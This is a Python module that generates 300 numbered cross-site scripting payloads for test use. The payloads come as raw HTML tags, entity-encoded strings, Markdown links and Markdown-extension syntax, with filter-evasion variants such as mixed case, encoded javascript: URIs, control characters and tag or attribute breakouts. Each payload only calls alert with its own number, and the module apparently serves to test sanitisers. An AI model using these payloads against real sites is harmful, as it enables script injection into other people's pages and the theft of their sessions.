"""Three hundred texts that run a script wherever a site trusts its content, and playbooks with them in every place.

Each says its own number, as in `alert(17)`, so that a test can tell whether it reached a page.
"""

import random
import re

SEED = 20261122
COUNT = 300

RAW_HTML = """\
<script>alert({n})</script>
<ScRiPt >alert({n})</sCrIpT>
<script src=//elsewhere.example/?alert({n})></script>
<img src=x onerror=alert({n})>
<img src=x:alert({n}) onerror=eval(src)>
<svg/onload=alert({n})>
<svg><script>alert({n})</script></svg>
<svg><a xlink:href="javascript:alert({n})"><text>x</text></a></svg>
<svg><animate onbegin=alert({n}) attributeName=x></svg>
<math><maction actiontype="statusline#" xlink:href="javascript:alert({n})">x</maction></math>
<iframe srcdoc="<script>alert({n})</script>"></iframe>
<iframe src="javascript:alert({n})">
<object data="javascript:alert({n})"></object>
<embed src="javascript:alert({n})">
<base href="//elsewhere.example/alert({n})/">
<meta http-equiv="refresh" content="0;url=javascript:alert({n})">
<link rel="stylesheet" href="//elsewhere.example/alert({n}).css">
<style>@import "//elsewhere.example/alert({n})";</style>
<form action="javascript:alert({n})"><button>x</button></form>
<input autofocus onfocus=alert({n})>
<details open ontoggle=alert({n})>
<div onpointerenter="alert({n})" style="position:fixed;inset:0">x</div>
<marquee onstart=alert({n})>
<body onload=alert({n})>
<a href="javascript:alert({n})">x</a>
<a href="&#106;avascript:alert({n})">x</a>
<button formaction="javascript:alert({n})">x</button>
<template><script>alert({n})</script></template>
<noscript><p title="</noscript><img src=x onerror=alert({n})>">
<!--><img src=x onerror=alert({n})>-->
<![CDATA[<script>alert({n})</script>]]>
<?php ?><script>alert({n})</script>
<x-y contenteditable onblur=alert({n}) autofocus>
</div></div><script>alert({n})</script>
</p></li></ol></check-list><script>alert({n})</script>
</title><script>alert({n})</script>
</code></pre><script>alert({n})</script>
</textarea></style></script><script>alert({n})</script>
--><script>alert({n})</script>
"><script>alert({n})</script>
'><script>alert({n})</script>
" onmouseover="alert({n})
' onmouseover='alert({n})
x onmouseover=alert({n})//
<<script>script>alert({n})<</script>/script>
<script\x0c>alert({n})</script>
\x7f<script>alert({n})</script>
\x85---\x85<script>alert({n})</script>
\u2028---\u2028<script>alert({n})</script>""".split("\n")
ENTITIES = """\
&lt;script&gt;alert({n})&lt;/script&gt;
&#60;img src=x onerror=alert({n})&#62;
&#x3c;svg onload=alert({n})&#x3e;
&amp;lt;script&amp;gt;alert({n})
&quot; onmouseover=&quot;alert({n})
&#34;&#62;&#60;script&#62;alert({n})&#60;/script&#62;
&#2;wzxhzdk:0&#3; alert({n})
&#2;klzzwxh:0000&#3; alert({n})
&#0;<script>alert({n})</script>
&#10;&#10;<script>alert({n})</script>
&NewLine;&NewLine;    <script>alert({n})</script>
&#127;<script>alert({n})</script>
&#x85;---&#x85;<script>alert({n})</script>""".split("\n")
LINKS = """\
[x](javascript:alert({n}))
[x](JaVaScRiPt:alert({n}))
[x](&#106;avascript:alert({n}))
[x](javascript&colon;alert({n}))
[x](java&Tab;script:alert({n}))
[x](java&NewLine;script:alert({n}))
[x](&#1;javascript:alert({n}))
[x](<  javascript:alert({n})>)
[x](\\javascript:alert({n}))
[x](javascript://%0aalert({n}))
[x](vbscript:alert({n}))
[x](data:text/html,<script>alert({n})</script>)
[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==?alert({n}))
[x](livescript:alert({n}))
[x](feed:javascript:alert({n}))
[x](https://ok.example/"onmouseover="alert({n}))
[x](<https://ok.example/'onmouseover='alert({n})>)
[x](<https://ok.example/"><script>alert({n})</script>>)
[x](mailto:a@ok.example?"onclick="alert({n}))
[x](#"onclick="alert({n}))
[x](index.md#"onclick="alert({n}))
[x](source:"onclick="alert({n}))
[x](//elsewhere.example/alert({n}))
[x][javascript:alert({n})]
[[[x]](javascript:alert({n}))](javascript:alert({n}))
[<img src=x onerror=alert({n})>](javascript:alert({n}))
[`x`](javascript:alert({n}) "alert({n})")
<javascript:alert({n})>
<data:text/html,alert({n})>
<https://ok.example/"onclick="alert({n})>
![x](javascript:alert({n}))
![x](data:image/svg+xml,<svg/onload=alert({n})>)
!["onerror="alert({n})](x.png)
![<script>alert({n})</script>](https://ok.example/x.png)
![x](https://ok.example/x.png"onerror="alert({n}))
[![x](javascript:alert({n}))](javascript:alert({n}))""".split("\n")
EXTENSIONS = """\
x{{: onclick="alert({n})" }}
{{: #x onclick="alert({n})" }}
[x](https://ok.example/){{: onclick="alert({n})" }}
`x`{{ onclick="alert({n})" }}
{{{{ 7*7 }}}}<script>alert({n})</script>
{{% raw %}}<script>alert({n})</script>{{% endraw %}}
{{{{ config.site_name }}}} {{#- -#}} alert({n})
!!! note "<script>alert({n})</script>"
??? "<script>alert({n})</script>"
=== "<script>alert({n})</script>"
/// html | script
::: alert({n})
--8<-- "alert({n})"
*[x]: <script>alert({n})</script>
[^1]: <script>alert({n})</script>
[x]: javascript:alert({n})
[TOC] <script>alert({n})</script>
:smile:{{ onclick=alert({n}) }}
$$<script>alert({n})</script>$$
++<script>alert({n})</script>++ {{++<script>alert({n})</script>++}}
``` onclick=alert({n})
~~~{{.html onclick="alert({n})"}}
```{{=html}} <script>alert({n})</script>
`` ``` `` <script>alert({n})</script>""".split("\n")
FORMS = [*RAW_HTML, *ENTITIES, *LINKS, *EXTENSIONS]
BEFORE = ("", "", "Words ", "**", "`", "_", "\\", "> ", "- ", "1. ", "&gt;", "\u202e", "<b>", "[", "(", '"', "'")
AFTER = ("", "", " words", "**", "`", "_", "\\", "](x)", ")", '"', "'", ">", " {#x}")


def payloads() -> list[str]:
    """Return the texts, the same each time, each once, in no order."""
    chance = random.Random(SEED)
    found: dict[str, None] = {}
    while len(found) < COUNT:
        form = FORMS[len(found) % len(FORMS)] if len(found) < len(FORMS) else chance.choice(FORMS)
        text = form.format(n=len(found))
        if len(found) >= len(FORMS):
            text = chance.choice(BEFORE) + in_other_case(text, chance) + chance.choice(AFTER)
        found[text] = None
    texts = list(found)
    chance.shuffle(texts)
    return texts


def in_other_case(text: str, chance: random.Random) -> str:
    """Change the case of some letters, but for the call itself."""
    return re.sub(
        r"alert\(\d+\)|[a-z]",
        lambda match: match[0] if len(match[0]) > 1 or chance.random() < 0.6 else match[0].upper(),
        text,
    )
